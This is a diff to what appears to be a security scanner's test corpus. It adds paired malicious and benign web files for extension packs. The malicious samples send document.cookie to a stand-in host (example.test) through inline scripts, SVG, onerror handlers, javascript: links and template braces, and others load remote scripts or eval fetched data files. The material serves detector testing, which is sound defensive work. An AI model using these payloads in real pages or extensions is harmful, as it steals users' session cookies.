@@ -1412,6 +1412,82 @@ const handedAttacks: Attack[] = [
   ),
 ]
 
+/** A pack with a page or a picture beside its scripts. */
+function page(name: string, path: string, attack: string, twin: string): Attack {
+  const init = 'WEB_DIRECTORY = "./web"\nNODE_CLASS_MAPPINGS = {}\n'
+  return {
+    name,
+    files: { '__init__.py': init, [path]: attack },
+    twin: { '__init__.py': init, [path]: twin },
+  }
+}
+
+const theft = 'fetch("https://example.test/?c=" + document.cookie)'
+const ownRequest = 'fetch("/api/x")'
+
+/** Scripts in files of other kinds. */
+const pageAttacks: Attack[] = [
+  page(
+    'sends cookies from a page',
+    'web/a.html',
+    `<!doctype html>\n<p>x\n<script>\n${theft}\n</script>`,
+    `<!doctype html>\n<p>x\n<script>\n${ownRequest}\n</script><script type="text/template">{{ ${theft} </script>`,
+  ),
+  page(
+    'sends cookies from a page in two scripts',
+    'web/a.htm',
+    '<script>const c = document.cookie</script><script>fetch("https://example.test/?c=" + c)</script>',
+    '<script>const c = name</script><script>fetch("https://example.test/?c=" + c)</script>',
+  ),
+  page(
+    'sends cookies from a page with scripts that say the same name twice',
+    'web/a.html',
+    `<script>const a = 1</script><script type="module">const a = 2; ${theft}</script>`,
+    `<script>const a = 1</script><script type="module">const a = 2; ${ownRequest}</script>`,
+  ),
+  page(
+    'sends cookies from a picture',
+    'web/a.svg',
+    `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[ ${theft} ]]></script></svg>`,
+    `<svg xmlns="http://www.w3.org/2000/svg"><style><![CDATA[ a { b: c } ]]></style></svg>`,
+  ),
+  page(
+    'sends cookies once a picture of a page does not load',
+    'web/a.html',
+    `<img src=x onerror='${theft}'>`,
+    `<img src=x onerror='this.remove()'>`,
+  ),
+  page(
+    'sends cookies from an address of a page',
+    'web/a.html',
+    `<a href='javascript:${theft}'>x</a>`,
+    `<a href='javascript:void(0)'>x</a>`,
+  ),
+  page(
+    'loads a script from a server into a page',
+    'web/a.html',
+    '<script src="//example.test/a.js"></script>',
+    '<script src="./a.js"></script><script src="https://cdn.jsdelivr.net/npm/vue@3.4.0/dist/vue.js"></script>',
+  ),
+  page(
+    'hides code between the signs of a template',
+    'web/a.html',
+    `<script>let a = {{ ${theft} }}</script>`,
+    `<script>let a = {{ ${ownRequest} }}; {% if x %} let b = {{ y | tojson }} {% endif %}</script>`,
+  ),
+  page('sends cookies from a script of the old kind', 'web/a.cjs', theft, ownRequest),
+  script(
+    'runs a file that is named like data as a script',
+    'const s = document.createElement("script"); s.src = "/extensions/p/a.dat"; document.head.append(s)',
+    'const s = document.createElement("script"); s.src = "/extensions/p/a.js"; document.head.append(s)',
+  ),
+  script(
+    'fetches a file that is named like data, and runs it',
+    'eval(await (await fetch("/extensions/p/a.dat")).text())',
+    'show(await (await fetch("/extensions/p/a.dat")).text())',
+  ),
+]
+
 export const attacks: readonly Attack[] = [
   ...codeAttacks,
   ...processAttacks,
@@ -1424,4 +1500,5 @@ export const attacks: readonly Attack[] = [
   ...evasions,
   ...hookedAttacks,
   ...handedAttacks,
+  ...pageAttacks,
 ]
